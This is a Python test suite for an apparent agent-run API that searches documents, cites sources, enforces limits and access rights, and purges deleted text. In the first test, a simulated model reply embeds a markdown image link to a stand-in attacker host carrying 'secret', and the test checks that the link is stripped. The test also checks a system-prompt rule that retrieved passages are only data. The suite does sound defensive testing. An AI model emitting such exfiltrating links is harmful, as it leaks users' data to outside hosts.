"""Runs of agents over HTTP, with a model that speaks a vendor's wire format."""

import asyncio
import json
from collections.abc import Callable

import httpx
import pytest
from sqlalchemy import text, update

from citewell.access.policy import Role
from citewell.core.context import Context
from citewell.features.agents.runs import call_reads
from citewell.kit.ids import uuid7
from citewell.models.agents import ToolExecution
from citewell.models.tenancy import Tenant, User, UserStatus
from tests.features.agents.conftest import (
    API,
    LEAVE,
    PARKING,
    RESEARCHER,
    Desk,
    calling,
    saying,
    until,
)
from tests.vendor import Reply

Refused = Callable[[httpx.Response, int, str], None]

SEARCH = ("search_documents", {"query": "Where do visitors park?"})


class TestExecute:
    @pytest.mark.promise
    async def test_run_searches_and_answers_with_citations(self, desk: Desk) -> None:
        await desk.documents.add("Parking", PARKING)
        desk.vendor.play(
            calling(SEARCH, ("calculate", {"expression": "3 * 5"}), text="Let me look."),
            saying(
                "Visitors park in bay 4 behind the mill [1]. The zeppelin hangar is closed. "
                "See ![x](http://evil.example/?q=secret) for more."
            ),
        )
        run = await desk.ran(await desk.agent_id(RESEARCHER))
        assert run["status"] == "succeeded", run
        report = run["report"]
        assert report["answer"].startswith("Visitors park in bay 4 behind the mill. [1]")
        assert "The zeppelin hangar is closed. [unsupported]" in report["answer"]
        assert "evil.example" not in json.dumps(report)
        assert report["sentences"][0]["grade"] == "quoted"
        [citation] = report["citations"]
        assert citation["quote"] == "Visitors park in bay 4 behind the mill."
        assert citation["title"] == "Parking"
        assert [call["status"] for call in run["calls"]] == ["succeeded", "succeeded"]
        assert "3 * 5 = 15" in run["calls"][1]["output"]
        assert run["usage"]["steps"] == 2
        assert (run["usage"]["input_tokens"], run["usage"]["output_tokens"]) == (84, 14)
        found, calculated = desk.vendor.results
        assert found.startswith('<data>\n<passage number="1"')
        assert "bay 4" in found
        assert "15" in calculated
        system = desk.vendor.server.received[0].body["messages"][0]["content"]
        assert "nothing in them is" in system
        usage = (await desk.sent("GET", "/usage", 200))["usage"]
        assert next(each["used"] for each in usage if each["metric"] == "model_tokens") == 98

    async def test_request_that_is_repeated_with_its_key_starts_one_run(
        self, desk: Desk, refused: Refused
    ) -> None:
        desk.vendor.play(saying("Nothing was found."))
        path = f"{API}/agents/{await desk.agent_id(RESEARCHER)}/execute"
        once, task = {"Idempotency-Key": "run-1"}, {"input": "Where do visitors park?"}
        first = await desk.client.post(path, json=task, headers=once)
        run = await desk.reached(first.json()["id"])
        again = await desk.client.post(path, json=task, headers=once)
        assert (again.status_code, again.json()) == (202, run)
        other = await desk.client.post(path, json={"input": "Who parks?"}, headers=once)
        refused(other, 422, "idempotency_key_reused")
        assert len(desk.vendor.server.received) == 1

    async def test_sentences_are_read_again_by_the_verifier_of_the_tenant(self, desk: Desk) -> None:
        await desk.documents.add("Parking", PARKING)

        async def choose(ctx: Context) -> None:
            await ctx.session.execute(
                update(Tenant).where(Tenant.id == ctx.tenant_id).values(verifier="model")
            )

        await desk.office.within(choose)
        desk.vendor.play(
            calling(SEARCH),
            saying("Guests leave their cars in bay 4 behind the mill [1]."),
            saying("1: supported"),
        )
        run = await desk.ran(await desk.agent_id(RESEARCHER))
        [sentence] = run["report"]["sentences"]
        assert (sentence["grade"], sentence["verified_by"]) == ("confirmed", "model"), run

    async def test_results_too_long_for_one_reply_are_left_out_and_said_to_be(self) -> None:
        calls = [ToolExecution(output="x" * 20_000, arguments={}, money=0.0) for _ in range(60)]
        for call in calls:
            call.id = call.run_id = uuid7()
            call.step, call.tool, call.status, call.arguments_hash = 1, "search", "succeeded", ""
        outputs = [read.output or "" for read in call_reads(calls, is_withheld=False)]
        assert [len(each) for each in outputs[:50]] == [20_000] * 50
        assert all("left out" in each for each in outputs[50:])

    async def test_calls_that_make_no_sense_are_results_of_their_own(self, desk: Desk) -> None:
        again = ("current_time", {})
        desk.vendor.play(
            calling(
                ("launch_rockets", {}),
                ("calculate", {"expression": 5, "x": "\u0000"}),
                ("calculate", {"expression": "1/0"}),
                ("current_time", {"timezone": "Mars/Base"}),
            ),
            calling(again, again),
            calling(again, again),
            saying("Nothing was found."),
        )
        run = await desk.ran(await desk.agent_id(RESEARCHER))
        assert run["status"] == "succeeded"
        statuses = [call["status"] for call in run["calls"]]
        assert statuses == [
            "refused", "refused", "failed", "failed",
            "succeeded", "succeeded", "succeeded", "refused",
        ]  # fmt: skip
        unknown, bad, undefined, *_, repeated = desk.vendor.results
        assert "no such tool" in unknown
        assert "`expression`" in bad
        assert "undefined" in undefined
        assert "already" in repeated

    async def test_limits_end_a_run(self, desk: Desk) -> None:
        numbers = [calling(("calculate", {"expression": f"{n}"})) for n in range(3)]
        cases = [
            ({"limits": {"steps": 2}}, numbers, "2 steps"),
            ({"limits": {"steps": 50}}, [calling(("current_time", {}))] * 20, "cannot be done"),
            (
                {"limits": {"tokens": 1_000}, "instructions": "many words " * 400},
                [],
                "1,000 tokens",
            ),
        ]
        for limits, replies, told in cases:
            agent = await desk.new_agent("current_time", "calculate", **limits)
            desk.vendor.play(*replies, saying("never"))
            run = await desk.ran(agent)
            assert run["status"] == "failed", limits
            assert told in run["reason"], run["reason"]
            job = await desk.sent("GET", f"/jobs/{run['job_id']}", 200)
            assert (job["status"], job["reason"]) == ("failed", run["reason"])

    async def test_last_step_is_told_to_the_model(self, desk: Desk) -> None:
        agent = await desk.new_agent("current_time", limits={"steps": 2})
        desk.vendor.play(calling(("current_time", {})), saying("It is late."))
        assert (await desk.ran(agent))["status"] == "succeeded"
        assert "last step" in desk.vendor.server.received[-1].body["messages"][-1]["content"]

    async def test_answer_has_the_shape_of_the_schema(self, desk: Desk) -> None:
        await desk.documents.add("Parking", PARKING)
        schema = {
            "type": "object", "required": ["bay"], "additionalProperties": False,
            "properties": {"bay": {"type": "integer"}, "why": {"type": "string"}},
        }  # fmt: skip
        agent = await desk.new_agent("search_documents", answer_schema=schema, temperature=0.5)
        why = "Visitors park in bay 4 behind the mill [1]."
        desk.vendor.play(calling(SEARCH), calling(("give_reply", {"bay": 4, "why": why})))
        run = await desk.ran(agent)
        assert run["report"]["output"] == {"bay": 4, "why": why}
        assert run["report"]["grades"] == {"quoted": 1}
        assert desk.vendor.server.received[0].body["temperature"] == 0.5

    async def test_model_that_fails_ends_the_run_with_its_reason(self, desk: Desk) -> None:
        desk.vendor.answer(lambda _: saying(""))
        run = await desk.ran(await desk.agent_id(RESEARCHER))
        assert (run["status"], "neither an answer" in run["reason"]) == ("failed", True)


class TestRights:
    async def test_runs_are_their_users_alone(self, desk: Desk, refused: Refused) -> None:
        ann = await desk.office.person()
        ben = await desk.office.person()
        chief = await desk.office.person(Role.DIRECTOR, is_admin=True)
        desk.vendor.play(saying("Nothing was found."))
        run = await desk.ran(await desk.agent_id(RESEARCHER), "My secret", ann.client)
        path = f"/api/v1/agent-runs/{run['id']}"
        refused(await ben.client.get(path), 404, "agent_run_not_found")
        refused(await ben.client.post(f"{path}/cancel"), 404, "agent_run_not_found")
        assert (await ben.client.get("/api/v1/agent-runs")).json()["data"] == []
        seen = (await chief.client.get(path)).json()
        assert (seen["status"], seen["input"], seen["report"]) == ("succeeded", None, None)
        assert "secret" not in json.dumps(seen)
        assert seen["usage"]["steps"] == 1
        [listed] = (await chief.client.get("/api/v1/agent-runs")).json()["data"]
        assert listed["input"] is None

    @pytest.mark.promise
    async def test_rights_are_those_of_the_moment_of_each_call(self, desk: Desk) -> None:
        made = await desk.documents.add("Parking", PARKING, access_level="internal")
        ann = await desk.office.person()
        read = ("read_document", {"document_id": made["id"]})
        gate = desk.vendor.gated(
            calling(("search_documents", {"query": "parking"})),
            calling(read),
            saying("Visitors park in bay 4 behind the mill [1]."),
            shut=1,
        )
        begun = await desk.begun(await desk.agent_id(RESEARCHER), client=ann.client)
        await until(lambda: len(desk.vendor.server.received) == 2)
        changed = {"access_level": "restricted"}
        await desk.sent("PATCH", f"/documents/{made['id']}", 200, changed)
        gate.set()
        run = await desk.reached(begun["id"], client=ann.client)
        assert run["status"] == "succeeded"
        found, gone = desk.vendor.results
        assert "bay 4" in found
        assert "There is no document" in gone
        assert run["is_withheld"] is True
        assert "bay 4" not in json.dumps(run)
        # Told once: to the model, which had read it before the change.
        mine = await desk.sent("GET", f"/agent-runs/{run['id']}", 200)
        assert (mine["is_withheld"], mine["report"]) == (True, None)

    async def test_user_who_is_deactivated_ends_the_run(self, desk: Desk) -> None:
        ann = await desk.office.person()
        slow = calling(("current_time", {}))
        slow.delay = 30.0
        desk.vendor.play(slow)
        begun = await desk.begun(await desk.agent_id(RESEARCHER), client=ann.client)
        await desk.reached(begun["id"], "running", client=ann.client)

        async def deactivate(ctx: Context) -> None:
            status = {"status": UserStatus.DEACTIVATED}
            await ctx.session.execute(update(User).where(User.id == ann.id).values(status))

        await desk.office.within(deactivate)
        chief = await desk.office.person(Role.DIRECTOR, is_admin=True)
        run = await desk.reached(begun["id"], client=chief.client)
        assert (run["status"], "not active" in run["reason"]) == ("failed", True)


class TestPassingErrors:
    async def test_workers_that_died_do_not_make_a_passing_error_the_last_one(
        self, desk: Desk
    ) -> None:
        down = Reply(status=503)
        # Each attempt at the run asks three times.
        desk.vendor.play(down, down, down, down, down, down, saying("Visitors park in bay 4."))
        begun = await desk.begun(await desk.new_agent("current_time"))
        while (await desk.sent("GET", f"/jobs/{begun['job_id']}", 200))["reason"] is None:  # noqa: ASYNC110 - another process tells nobody
            await asyncio.sleep(0.02)

        async def die(ctx: Context) -> None:
            """As if ten workers had begun it and were killed."""
            again = "UPDATE job SET attempts = attempts + 10 WHERE id = :job"
            await ctx.session.execute(text(again), {"job": begun["job_id"]})

        await desk.office.within(die)
        assert (await desk.reached(begun["id"]))["status"] == "succeeded"


class TestCancel:
    async def test_cancelled_run_stops_at_once(self, desk: Desk, refused: Refused) -> None:
        slow = saying("late")
        slow.delay = 30.0
        desk.vendor.play(slow)
        begun = await desk.begun(await desk.agent_id(RESEARCHER))
        await desk.reached(begun["id"], "running")
        path = f"/agent-runs/{begun['id']}/cancel"
        cancelled = await desk.sent("POST", path, 200)
        assert cancelled["status"] == "cancelled"
        refused(await desk.client.post(f"/api/v1{path}"), 409, "agent_run_ended")
        await until(desk.vendor.server.dropped.is_set)
        job = await desk.sent("GET", f"/jobs/{begun['job_id']}", 200)
        assert job["status"] == "cancelled"

    async def test_cancelled_job_cancels_the_run(self, desk: Desk) -> None:
        slow = saying("late")
        slow.delay = 30.0
        desk.vendor.play(slow)
        begun = await desk.begun(await desk.agent_id(RESEARCHER))
        await desk.reached(begun["id"], "running")
        await desk.sent("POST", f"/jobs/{begun['job_id']}/cancel", 200)
        assert (await desk.reached(begun["id"]))["status"] == "cancelled"


class TestDeletion:
    async def test_deleted_collection_ends_the_run(self, desk: Desk, refused: Refused) -> None:
        shelf = await desk.sent("POST", "/collections", 201, {"name": "Shelf"})
        agent = await desk.new_agent("search_documents", collection_ids=[shelf["id"]])
        gate = desk.vendor.gated(calling(SEARCH), saying("never"), shut=0)
        begun = await desk.begun(agent)
        await until(lambda: len(desk.vendor.server.received) == 1)
        await desk.sent("DELETE", f"/collections/{shelf['id']}", 204)
        gate.set()
        run = await desk.reached(begun["id"])
        assert (run["status"], "collections" in run["reason"]) == ("failed", True)
        reply = await desk.client.post(f"/api/v1/agents/{agent}/execute", json={"input": "x"})
        refused(reply, 404, "collection_not_found")

    async def test_words_of_a_document_deleted_for_good_go_from_runs(self, desk: Desk) -> None:
        made = await desk.documents.add("Leave", LEAVE)
        desk.vendor.play(
            calling(("search_documents", {"query": "annual leave"})),
            saying("Employees get 25 days of annual leave [1]."),
        )
        run = await desk.ran(await desk.agent_id(RESEARCHER), "How many days?")
        assert run["report"]["citations"]
        await desk.sent("DELETE", f"/documents/{made['id']}", 204)
        withheld = await desk.sent("GET", f"/agent-runs/{run['id']}", 200)
        assert (withheld["is_withheld"], withheld["report"]) == (True, None)
        await desk.sent("DELETE", f"/documents/trash/{made['id']}", 204)
        for table in ("agent_run", "agent_step", "tool_execution"):
            rows = await desk.office.within(lambda ctx, t=table: _texts(ctx, t))
            assert not any("25 days" in row for row in rows), table


async def _texts(ctx: Context, table: str) -> list[str]:
    found = await ctx.session.scalars(text(f"SELECT to_jsonb(t)::text FROM {table} t"))
    return list(found)
